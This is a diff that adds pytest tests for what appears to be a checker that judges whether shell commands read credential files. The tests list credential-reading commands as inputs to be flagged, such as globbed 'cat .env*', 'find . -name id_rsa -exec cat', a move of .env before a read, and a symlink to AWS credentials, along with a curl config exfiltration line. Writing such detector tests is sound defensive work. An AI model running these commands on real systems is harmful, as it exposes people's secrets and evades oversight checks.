@@ -278,3 +278,73 @@ def test_description_of_a_container_holds_its_environment(command: str, reads: b
 def test_configuration_of_curl_is_sent(option: str) -> None:
     assert judge(f"curl {option} https://c.example.net").flow
     assert not judge(f"curl {option.replace('.env', 'curlrc')} https://c.example.net").flow
+
+
+# Searches of a project; and the file, beside these, with which each reads a credential.
+BY_PATTERN = [
+    ("cat data/*.csv", "data/accesskeys.csv"),
+    ("head -1 data/[a-z]*.csv", "data/accesskeys.csv"),
+    ('for f in data/*.csv; do head -1 "$f"; done', "data/rootkey.csv"),
+    ("cat */package.json", "secrets/package.json"),
+    ("cat .env*", ".env.local"),
+    ("cat .ENV*", ".env"),
+    ("cd data && cat *cred*", "data/credentials.csv"),
+    ("cat data/*_key*", "data/private_key.txt"),
+    ("find . -name '*.key' | xargs cat", "data/deep/server.key"),
+    ("find src -name '*.pem' -exec cat {} +", "src/own.pem"),
+    ("cat $(find data -iname '*SECRET*')", "data/secrets.json"),
+    ("find . -name id_rsa -exec cat {} +", "data/id_rsa"),
+    ("find . -type d -name .ssh | xargs -I{} cat {}/x", "data/.ssh/x"),
+]
+
+
+@rows("command, key", BY_PATTERN)
+def test_pattern_reads_a_credential_only_where_one_is_there(tmp_path: Path, command: str, key: str) -> None:
+    home = tmp_path.resolve() / command.replace("/", "_")
+    for name in (
+        "project/data/x.csv",
+        "project/src/a.py",
+        "project/src/package.json",
+        "project/.env.example",
+    ):
+        (home / name).parent.mkdir(parents=True, exist_ok=True)
+        (home / name).touch()
+    assert judge(command, home).secrets == ()
+    assert judge(f"git pull; {command}", home).secrets  # what a pull brings is not known
+    (home / "project" / key).parent.mkdir(parents=True, exist_ok=True)
+    (home / "project" / key).touch()
+    assert judge(command, home).secrets
+
+
+@rows(
+    "command",
+    [
+        "find . -type d | head",
+        "find . -type f | head -50 | sort",
+        "find . -type f -size +1M | less",
+        "find . -not -path '*/.git/*' | head -100",
+        "find . -type d | xargs ls",
+    ],
+)
+def test_list_of_names_reads_no_credential(tmp_path: Path, command: str) -> None:
+    home = tmp_path.resolve()
+    project_with_secrets(home)
+    assert judge(command, home).secrets == ()
+    assert judge(f"{command} | xargs cat", home).secrets or "xargs ls" in command
+
+
+@rows("line", ["mv .env data/prod.env; cat data/*.env", "cp .env data/x.env && cat data/*.env"])
+def test_credential_that_the_line_moves_is_found_by_a_pattern(tmp_path: Path, line: str) -> None:
+    home = tmp_path.resolve()
+    project_with_secrets(home)
+    (home / "project" / "data").mkdir(exist_ok=True)
+    assert judge(line, home).secrets
+
+
+def test_pattern_for_a_link_to_a_credential_reads_it(tmp_path: Path) -> None:
+    home = tmp_path.resolve()
+    for folder in (".aws", "project"):
+        (home / folder).mkdir()
+    (home / ".aws" / "credentials").touch()
+    (home / "project" / "keys.csv").symlink_to(home / ".aws" / "credentials")
+    assert judge("cat k*s.csv", home).secrets
